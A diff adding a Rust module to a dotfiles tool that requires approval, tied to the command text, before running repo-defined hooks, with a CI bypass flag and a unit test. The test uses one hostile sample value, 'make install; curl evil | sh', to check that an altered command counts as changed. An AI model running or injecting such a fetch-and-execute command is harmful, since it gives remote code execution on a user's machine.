@@ -0,0 +1,124 @@
+use crate::core::state::{self, fingerprint, State};
+use crate::core::sudo::is_interactive;
+use crate::error::{DotfilesError, Result};
+use colored::Colorize;
+use dialoguer::Confirm;
+use std::path::Path;
+use std::sync::atomic::{AtomicBool, Ordering};
+
+static TRUST_ALL: AtomicBool = AtomicBool::new(false);
+
+/// Runs every repo-defined command without asking (`--trust-all`, for CI)
+pub fn set_trust_all(trust_all: bool) {
+    TRUST_ALL.store(trust_all, Ordering::Relaxed);
+}
+
+/// Returns true if repo-defined commands run without approval
+pub fn trust_all() -> bool {
+    TRUST_ALL.load(Ordering::Relaxed)
+}
+
+/// Whether a repo-defined command has been approved on this machine
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum TrustStatus {
+    /// Approved with exactly this text
+    Trusted,
+    /// Never approved
+    New,
+    /// Approved before, but the command has changed since
+    Changed,
+}
+
+/// Returns whether `command`, defined in the repo under `key`, is approved
+///
+/// `key` names where the command comes from, e.g. `hook:post-setup`.
+pub fn status(state: &State, key: &str, command: &str) -> TrustStatus {
+    match state.trusted_commands.get(key) {
+        Some(recorded) if *recorded == fingerprint(command) => TrustStatus::Trusted,
+        Some(_) => TrustStatus::Changed,
+        None => TrustStatus::New,
+    }
+}
+
+/// Records `command` as approved under `key`
+pub fn trust(state: &mut State, key: &str, command: &str) {
+    state
+        .trusted_commands
+        .insert(key.to_string(), fingerprint(command));
+}
+
+/// Returns true if a repo-defined command may run, asking the first time it is seen
+///
+/// Like direnv's `allow`, approval is tied to the command's text, so an
+/// edited command has to be approved again. With `--trust-all` nothing is
+/// asked or recorded. Without a terminal to ask on, an unapproved command
+/// is an error rather than being skipped silently.
+pub fn ensure_trusted(home_dir: &Path, key: &str, command: &str) -> Result<bool> {
+    if trust_all() {
+        return Ok(true);
+    }
+
+    let state_file = state::state_path(home_dir);
+    let mut state = State::load(&state_file)?;
+    let status = status(&state, key, command);
+    if status == TrustStatus::Trusted {
+        return Ok(true);
+    }
+
+    let what = if status == TrustStatus::Changed {
+        "changed since you approved it"
+    } else {
+        "not approved on this machine yet"
+    };
+    if !is_interactive() {
+        return Err(DotfilesError::Config(format!(
+            "{} is {}; run interactively to review it, or pass --trust-all",
+            key, what
+        )));
+    }
+
+    println!("{}", format!("{} is {}:", key, what).yellow());
+    println!("  {}", command.cyan());
+    let approved = Confirm::new()
+        .with_prompt("Trust and run it?")
+        .default(false)
+        .interact()
+        .map_err(|e| DotfilesError::Config(format!("Prompt error: {}", e)))?;
+    if approved {
+        trust(&mut state, key, command);
+        state.save(&state_file)?;
+    }
+    Ok(approved)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn test_status_follows_command_text() {
+        let mut state = State::default();
+        assert_eq!(
+            status(&state, "hook:post-setup", "make install"),
+            TrustStatus::New
+        );
+
+        trust(&mut state, "hook:post-setup", "make install");
+        assert_eq!(
+            status(&state, "hook:post-setup", "make install"),
+            TrustStatus::Trusted
+        );
+        assert_eq!(
+            status(&state, "hook:post-setup", "make install; curl evil | sh"),
+            TrustStatus::Changed
+        );
+        assert_eq!(
+            status(&state, "check:vpn", "make install"),
+            TrustStatus::New
+        );
+        assert_eq!(
+            fingerprint("make install"),
+            "d731793e684e47e90ce49cd6fbeacbeb29aaa02b65089288f96583563c15084f"
+        );
+    }
+}